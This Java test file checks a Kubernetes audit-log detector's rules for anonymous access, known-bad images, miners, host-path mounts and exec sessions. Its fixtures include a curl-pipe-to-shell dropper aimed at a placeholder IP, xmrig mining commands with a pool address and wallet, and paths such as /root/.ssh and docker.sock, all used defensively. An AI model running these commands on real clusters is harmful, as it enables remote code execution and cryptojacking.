package io.firedamp.detectors.controlplane;

import static io.firedamp.detectors.controlplane.Requests.anonymous;
import static io.firedamp.detectors.controlplane.Requests.request;
import static io.firedamp.detectors.controlplane.Requests.running;
import static org.assertj.core.api.Assertions.assertThat;

import io.firedamp.detectors.controlplane.RequestRule.Verdict;
import io.firedamp.schemas.avro.AuditEvent;
import io.firedamp.schemas.avro.ContainerSpec;
import io.firedamp.schemas.avro.IndicatorRef;
import io.firedamp.schemas.avro.Owner;
import io.firedamp.schemas.avro.WorkloadSpec;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What each rule says of a request, and of whom: title, detail, traits, techniques, subject. */
class VerdictsTest {
  private static final String NGINX = "docker.io/library/nginx:1.25";
  private static final String UNKNOWN = "docker.io/xyzzy77/a:1";
  private static final String DROPPER = "curl -s http://192.0.2.9/a | sh";
  private static final String WALLET =
      "41e2vPcVux9NNeTfWe8TLK2UWxCXJvNyCQtNb69YEexdNs711jEaDRXWbwaVe4vUMveKAzAiA4j8xgUi29TpKXpm3zKTUYo";

  private final List<RequestRule> rules = ControlPlaneDetector.Settings.DEFAULTS.rules();

  @Test
  void anonymousAccessIsSaidOfWhoCameInWithWhatTheServerDecided() {
    Verdict verdict = only("K8S-01", anonymous("list", "secrets", "x").setName(null));

    assertThat(verdict.title()).isEqualTo("anonymous access allowed: list secrets in shop");
    assertThat(verdict.detail()).isEqualTo("user 'system:anonymous', decision allow, response 200");
    assertThat(verdict.subject().toString()).isEqualTo("c/workload/principal//system:anonymous");
    assertThat(verdict.traits()).containsExactly("ANONYMOUS");
    assertThat(verdict.techniques()).containsExactly("T1190", "T1078.001");
  }

  @Test
  void anonymousAccessSaysWhatWasNotRecorded() {
    AuditEvent.Builder event =
        anonymous("get", "nodes", "n1").setDecision(null).setNamespace(null).setResponseCode(204);

    assertThat(only("K8S-01", event).detail())
        .isEqualTo("user 'system:anonymous', decision not recorded, response 204");
    assertThat(only("K8S-01", anonymous("get", "nodes", "n1").setResponseCode(null)).detail())
        .endsWith("decision allow, response not recorded");
  }

  @Test
  void whoeverIsLetIntoAPodIsSaidOfThePod() {
    for (String sub : List.of("exec", "attach", "portforward", "proxy")) {
      Verdict verdict = only("K8S-01", anonymous("get", "pods", "web-1").setSubresource(sub));

      assertThat(verdict.subject().toString()).as(sub).isEqualTo("c/pod/shop/web-1");
      assertThat(verdict.decibans()).as(sub).isEqualTo(42);
      assertThat(verdict.title()).as(sub).endsWith("get pods/" + sub + " web-1 in shop");
    }
    assertThat(only("K8S-01", anonymous("get", "pods", "web-1").setSubresource("log")).decibans())
        .isEqualTo(16);
    assertThat(only("K8S-01", anonymous("get", "services", "w").setSubresource("proxy")).decibans())
        .isEqualTo(16);
  }

  @Test
  void aGroupAloneMakesAnonymous() {
    AuditEvent.Builder event =
        request("list", "pods", "x").setGroups(List.of("system:unauthenticated"));

    assertThat(only("K8S-01", event).decibans()).isEqualTo(16);
  }

  @ParameterizedTest
  @CsvSource({
    "create, selfsubjectaccessreviews, 16",
    "create, tokenreviews, 16",
    "create, serviceaccounts, 42",
    "update, pods, 42",
    "patch, pods, 42",
    "delete, pods, 42",
    "deletecollection, pods, 42",
    "watch, pods, 16",
    "get, secrets, 42"
  })
  void aReviewChangesNothingAndSecretsAreGraveToSee(String verb, String resource, double weight) {
    assertThat(only("K8S-01", anonymous(verb, resource, "x")).decibans()).isEqualTo(weight);
  }

  @ParameterizedTest
  @CsvSource({"200, true", "299, true", "300, false", "403, false"})
  void withoutADecisionTheAnswerTellsWhetherItWasAllowed(int code, boolean allowed) {
    AuditEvent.Builder event =
        anonymous("list", "pods", "x").setDecision(null).setResponseCode(code);

    assertThat(judge("K8S-01", event).isPresent()).isEqualTo(allowed);
  }

  @ParameterizedTest
  @ValueSource(strings = {"/healthzz", "/apis", "/versions", "/openidx/v1", "/x/healthz"})
  void whatOnlyLooksLikeAHealthCheckIsNone(String uri) {
    AuditEvent.Builder event = anonymous("get", "x", "x").setResource(null).setRequestUri(uri);

    assertThat(judge("K8S-01", event)).isPresent();
  }

  @Test
  void onlyTheOnePublishedConfigMapIsPublic() {
    AuditEvent.Builder published =
        anonymous("get", "configmaps", "cluster-info").setNamespace("kube-public");

    assertThat(judge("K8S-01", published)).isEmpty();
    assertThat(judge("K8S-01", published.setName("other"))).isPresent();
    assertThat(judge("K8S-01", published.setName("cluster-info").setVerb("list"))).isPresent();
    assertThat(judge("K8S-01", anonymous("get", "configmaps", "cluster-info").setNamespace("shop")))
        .isPresent();
  }

  @Test
  void aFlaggedImageIsNamedWithTheEntryThatListsIt() {
    Verdict bad = only("K8S-06", deploying(running("docker.io/docker123321/cron:latest")));
    Verdict poser = only("K8S-06", deploying(running("docker.io/someone/tomcat11:latest")));

    assertThat(bad.title())
        .isEqualTo("workload runs known-bad image docker.io/docker123321/cron:latest");
    assertThat(bad.detail()).startsWith("listed as ");
    assertThat(bad.traits()).containsExactly("KNOWN_BAD", "LISTED");
    assertThat(bad.indicators())
        .containsExactly(new IndicatorRef("image", "docker.io/docker123321/cron"));
    assertThat(bad.attributes()).containsEntry("image", "docker.io/docker123321/cron:latest");
    assertThat(poser.title()).endsWith("which poses as official image tomcat");
    assertThat(poser.detail()).endsWith(" as tomcat, publisher not trusted");
    assertThat(poser.traits()).containsExactly("IMPOSTOR");
  }

  @Test
  void ofSeveralImagesTheWorstIsSaid() {
    WorkloadSpec.Builder spec = running("docker.io/someone/tomcat11:latest");
    List<ContainerSpec> containers = new ArrayList<>(spec.getContainers());
    containers.addAll(running("docker.io/docker123321/cron:latest").getContainers());
    containers.addAll(running(NGINX).getContainers());

    assertThat(only("K8S-06", deploying(spec.setContainers(containers))).decibans()).isEqualTo(50);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = ';',
      value = {
        "xmrig -o stratum+tcp://xmr.crypto-pool.fr:3333 -u WALLET;54;MINER_COMMAND WALLET;workload is told to run a miner:;T1496.001",
        "xmrig --donate-level=1;46;MINER_COMMAND;workload is told to run a miner:;T1496.001",
        "./x WALLET 203.0.113.9:3333;36;WALLET;workload is told a wallet and an endpoint:;T1496.001",
        "sh -c curl -s http://192.0.2.9/a | sh;18;DROPPER;workload is told to fetch and run a program:;T1105"
      })
  void whatAWorkloadIsToldIsSaidByItsGrade(
      String command, double weight, String traits, String title, String technique) {
    String[] words = command.replace("WALLET", WALLET).split(" ");

    Verdict verdict = only("K8S-07", deploying(running(NGINX, words)));

    assertThat(verdict.decibans()).isEqualTo(weight);
    assertThat(verdict.traits()).containsExactlyInAnyOrder(traits.split(" "));
    assertThat(verdict.title()).isEqualTo(title + " create deployments web in shop");
    assertThat(verdict.techniques()).containsExactly(technique, "T1610");
    assertThat(verdict.attributes()).isEqualTo(Map.of("firedamp.traces", verdict.detail()));
  }

  @Test
  void commandAndArgumentsAreOneCommandLine() {
    ContainerSpec plain = running(NGINX).getContainers().get(0);
    ContainerSpec split =
        ContainerSpec.newBuilder(plain)
            .setCommand(List.of("/x"))
            .setArgs(List.of("-o", "stratum+tcp://a.example:1", "-u", "w"))
            .build();

    assertThat(only("K8S-07", deploying(running(NGINX).setContainers(List.of(split)))).decibans())
        .isEqualTo(46);
  }

  @Test
  void tracesOfSeveralContainersAreTakenTogether() {
    List<ContainerSpec> containers = new ArrayList<>(running(NGINX, "./x", WALLET).getContainers());
    containers.addAll(running(NGINX, "xmrig", "-o", "xmr.crypto-pool.fr:3333").getContainers());

    assertThat(only("K8S-07", deploying(running(NGINX).setContainers(containers))).decibans())
        .isEqualTo(54);
  }

  @Test
  void aConfigurationIsSaidOfItself() {
    AuditEvent.Builder event =
        request("create", "configmaps", "web")
            .setData(List.of("a=" + WALLET, "b=xmr.crypto-pool.fr:3333"));

    Verdict verdict = only("K8S-07", event);

    assertThat(verdict.subject().toString()).isEqualTo("c/workload/configmap/shop/web");
    assertThat(verdict.title())
        .isEqualTo("configuration names a wallet and a pool: create configmaps web in shop");
    assertThat(verdict.traits()).containsExactly("WALLET");
    assertThat(verdict.indicators()).extracting(IndicatorRef::getType).contains("wallet", "pool");
    assertThat(judge("K8S-07", event.setVerb("get"))).isEmpty();
  }

  @ParameterizedTest
  @CsvSource({
    "true, 0, false, true, 3, one copy on every node",
    "true, 0, true, true, 14, 'one copy on every node, tolerates every taint, image of an unknown publisher'",
    "false, 10, false, true, 8, '10 copies (>= 10), keeps its copies apart'",
    "false, 10, true, true, 14, '10 copies (>= 10), keeps its copies apart, tolerates every taint, image of an unknown publisher'",
    "false, 9, true, true, 8, 'keeps its copies apart, tolerates every taint'"
  })
  void whatSpreadsSaysWhyItCounts(
      boolean daemonSet,
      int replicas,
      boolean everywhere,
      boolean apart,
      double weight,
      String why) {
    String image = daemonSet && !everywhere ? NGINX : UNKNOWN;
    WorkloadSpec.Builder spec = running(image).setToleratesEverything(everywhere);
    if (!daemonSet) {
      spec.setReplicas(replicas).setAntiAffinity(apart);
    }

    Verdict verdict =
        only(
            "K8S-09",
            request("create", daemonSet ? "daemonsets" : "deployments", "w").setSpec(spec.build()));

    assertThat(verdict.detail()).isEqualTo(why);
    assertThat(verdict.decibans()).isEqualTo(weight);
    assertThat(verdict.traits()).containsExactly("SPREADS");
    assertThat(verdict.techniques()).containsExactly("T1610", "T1543.005");
  }

  @ParameterizedTest
  @CsvSource({
    "*/15 * * * *, 6, runs again within PT15M (short: up to PT15M)",
    "* * * * *, 6, runs again within PT1M (short: up to PT15M)"
  })
  void aCronJobThatComesBackSaysHowSoon(String schedule, double weight, String detail) {
    Verdict verdict = only("K8S-10", cron(running(NGINX, "backup").setSchedule(schedule)));

    assertThat(verdict.decibans()).isEqualTo(weight);
    assertThat(verdict.detail()).isEqualTo(detail);
    assertThat(verdict.traits()).containsExactly("PERSISTS");
    assertThat(verdict.attributes()).containsEntry("kubernetes.schedule", schedule);
    assertThat(verdict.subject().toString()).isEqualTo("c/workload/cronjob/shop/c");
  }

  @Test
  void aCronJobIsGraveByWhatItFetchesOftenOrMinesAtAll() {
    assertThat(judge("K8S-10", cron(running(NGINX, "x").setSchedule("*/20 * * * *")))).isEmpty();
    assertThat(
            only("K8S-10", cron(running(NGINX, "sh", "-c", DROPPER).setSchedule("0 2 * * *")))
                .decibans())
        .isEqualTo(6);
    assertThat(
            only("K8S-10", cron(running(NGINX, "sh", "-c", DROPPER).setSchedule("*/5 * * * *")))
                .traits())
        .containsExactly("DROPPER", "PERSISTS");
    assertThat(
            only("K8S-10", cron(running(NGINX, "xmrig", "--rig-id=x").setSchedule("0 2 * * *")))
                .decibans())
        .isEqualTo(26);
    assertThat(only("K8S-10", cron(running(NGINX, "sh", "-c", DROPPER))).detail())
        .startsWith("schedule not in the request, ");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "/",
        "/etc",
        "/etc/",
        "//etc",
        "/etc//",
        "/./etc/.",
        "/etc/./cron.d",
        "/root/.ssh/",
        "/run/docker.sock",
        "/var/run//docker.sock"
      })
  void aPathOfTheNodesIsGraveHoweverItIsSpelled(String path) {
    assertThat(judge("K8S-14", deploying(running(UNKNOWN).setHostPaths(List.of(path)))))
        .isPresent();
  }

  @ParameterizedTest
  @ValueSource(strings = {"/etcd", "/etc/ssl", "/var/log", "/data/etc", "/rootfs", "/home/x/etc"})
  void anyOtherPathIsNot(String path) {
    assertThat(judge("K8S-14", deploying(running(UNKNOWN).setHostPaths(List.of(path))))).isEmpty();
  }

  @Test
  void aTakeOverOfTheNodeSaysByWhat() {
    WorkloadSpec.Builder spec =
        running(UNKNOWN).setHostPid(true).setHostPaths(List.of("/root", "/etc", "/etc/"));
    ContainerSpec privileged =
        ContainerSpec.newBuilder(spec.getContainers().get(0)).setPrivileged(true).build();

    Verdict verdict = only("K8S-14", deploying(spec.setContainers(List.of(privileged))));

    assertThat(verdict.detail())
        .isEqualTo(
            "privileged among the node's processes, mounts the node's /etc, mounts the node's /root,"
                + " image of an unknown publisher");
    assertThat(verdict.traits()).containsExactly("HOST_TAKEOVER");
    assertThat(verdict.techniques()).containsExactly("T1610", "T1611");
  }

  @Test
  void privilegeOrTheNodesProcessesAloneIsNoTakeOver() {
    ContainerSpec plain = running(UNKNOWN).getContainers().get(0);
    ContainerSpec privileged = ContainerSpec.newBuilder(plain).setPrivileged(true).build();

    assertThat(judge("K8S-14", deploying(running(UNKNOWN).setContainers(List.of(privileged)))))
        .isEmpty();
    assertThat(judge("K8S-14", deploying(running(UNKNOWN).setHostPid(true)))).isEmpty();
  }

  @Test
  void oneStrangerAmongTrustedImagesIsJudged() {
    List<ContainerSpec> containers = new ArrayList<>(running(NGINX).getContainers());
    containers.addAll(running(UNKNOWN).getContainers());
    WorkloadSpec.Builder spec =
        running(NGINX).setContainers(containers).setHostPaths(List.of("/etc"));

    assertThat(only("K8S-14", deploying(spec)).decibans()).isEqualTo(16);
    assertThat(judge("K8S-14", deploying(running(NGINX).setHostPaths(List.of("/etc"))))).isEmpty();
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "command=xmrig&command=--rig-id%3Dx|46|EXEC MINER_COMMAND|a miner was started in a running container: ",
        "command=sh&command=-c&command=curl+http%3A%2F%2Fa.example%2Fx+%7C+sh|20|DROPPER EXEC|a program was fetched into a running container: ",
        "command=bash&stdin=true&tty=true|4|EXEC|a shell was opened in a running container: "
      })
  void aCommandInAPodIsSaidOfThePodWithItsWords(
      String query, double weight, String traits, String title) {
    Verdict verdict = only("K8S-16", exec(query));

    assertThat(verdict.decibans()).isEqualTo(weight);
    assertThat(verdict.traits()).containsExactlyInAnyOrder(traits.split(" "));
    assertThat(verdict.title()).isEqualTo(title + " get pods/exec web-1 in shop");
    assertThat(verdict.subject().toString()).isEqualTo("c/pod/shop/web-1");
    assertThat(verdict.attributes()).containsKey("process.command_line");
    assertThat(verdict.techniques()).contains("T1609");
  }

  @ParameterizedTest
  @ValueSource(strings = {"command=bash&stdin=true", "command=bash&tty=true", "command=ls", ""})
  void aCommandWithoutATerminalOrTracesIsNothing(String query) {
    assertThat(judge("K8S-16", exec(query))).isEmpty();
  }

  @Test
  void readsNoMoreThan256WordsOfACommand() {
    String words = "command=x&".repeat(256) + "command=xmrig&command=--rig-id%3Dx";

    assertThat(new Request(exec(words).build()).command()).hasSize(256);
    assertThat(judge("K8S-16", exec(words))).isEmpty();
  }

  @Test
  void everyFindingCarriesWhoAskedForWhatFromWhere() {
    AuditEvent.Builder event =
        deploying(running(NGINX).setNodeName("n1"))
            .setUserAgent("kubectl/1")
            .setImpersonatedUser("bob");

    assertThat(new Request(event.build()).attributes())
        .containsEntry("user", "jane")
        .containsEntry("user.effective.name", "bob")
        .containsEntry("source.address", "198.51.100.7")
        .containsEntry("user_agent.original", "kubectl/1")
        .containsEntry("kubernetes.audit.verb", "create")
        .containsEntry("kubernetes.resource", "deployments")
        .containsEntry("namespace", "shop")
        .containsEntry("kubernetes.name", "web")
        .containsEntry("node", "n1")
        .containsEntry("image", NGINX)
        .doesNotContainKey("images");
  }

  @Test
  void namesNoMoreThanEightImages() {
    List<ContainerSpec> containers = new ArrayList<>();
    for (int i = 0; i < 12; i++) {
      containers.addAll(running("docker.io/x/i" + (char) ('a' + i) + ":1").getContainers());
    }
    Request request = new Request(deploying(running(NGINX).setContainers(containers)).build());

    assertThat(request.attributes())
        .hasEntrySatisfying("images", images -> assertThat(images.split(", ", -1)).hasSize(8));
    assertThat(request.attributes()).containsEntry("image", "docker.io/x/ia:1");
  }

  @Test
  void namesThatSomebodyTypedAreCut() {
    Request request =
        new Request(
            request("create", "deployments", "n".repeat(400)).setUser("u".repeat(400)).build());

    assertThat(request.text()).isEqualTo("create deployments " + "n".repeat(252) + "… in shop");
    assertThat(
            new Request(request("list", "pods", "x").setUser("u".repeat(400)).build())
                .subject()
                .rest())
        .isEqualTo("principal//" + "u".repeat(252) + "…");
    assertThat(new Request(request("list", "pods", "x").setUser("").build()).subject().rest())
        .isEqualTo("principal//-");
  }

  @ParameterizedTest
  @CsvSource({
    "deployments, c/workload/deployment/shop/x",
    "statefulsets, c/workload/statefulset/shop/x",
    "rollouts, c/workload/rollout/shop/x",
    "podtemplates, c/workload/podtemplate/shop/x",
    "s, c/workload/s/shop/x"
  })
  void namesTheKindOfAnObjectAsItsPodsDo(String resource, String subject) {
    assertThat(
            new Request(request("create", resource, "x").setSpec(running(NGINX).build()).build())
                .subject()
                .toString())
        .isEqualTo(subject);
  }

  @Test
  void theTopOfAChainOfOwnersIsTheSubject() {
    AuditEvent event =
        request("update", "replicasets", "web-1")
            .setSpec(running(NGINX).build())
            .setOwners(
                List.of(
                    Owner.newBuilder().setKind("Deployment").setName("web").build(),
                    Owner.newBuilder().setKind("Rollout").setName("top").build()))
            .build();

    assertThat(new Request(event).subject().toString()).isEqualTo("c/workload/rollout/shop/top");
  }

  @ParameterizedTest
  @CsvSource({
    "system:serviceaccount:kube-system:x, true",
    "system:node:n1, true",
    "system:kube-scheduler, true",
    "system:serviceaccount:shop:x, false",
    "system:anonymous, false",
    "jane, false"
  })
  void knowsTheSystemsOwnAccounts(String user, boolean system) {
    assertThat(new Request(request("create", "pods", "x").setUser(user).build()).bySystem())
        .isEqualTo(system);
  }

  private static AuditEvent.Builder deploying(WorkloadSpec.Builder spec) {
    return request("create", "deployments", "web").setSpec(spec.build());
  }

  private static AuditEvent.Builder cron(WorkloadSpec.Builder spec) {
    return request("create", "cronjobs", "c").setSpec(spec.build());
  }

  private static AuditEvent.Builder exec(String query) {
    return request("get", "pods", "web-1")
        .setSubresource("exec")
        .setRequestUri("/api/v1/namespaces/shop/pods/web-1/exec?" + query);
  }

  private Verdict only(String id, AuditEvent.Builder event) {
    return judge(id, event).orElseThrow(() -> new AssertionError("nothing found by " + id));
  }

  private Optional<Verdict> judge(String id, AuditEvent.Builder event) {
    Request request = new Request(event.build());
    return rules.stream()
        .filter(rule -> rule.id().equals(id))
        .flatMap(rule -> rule.judge(request).stream())
        .findFirst();
  }
}
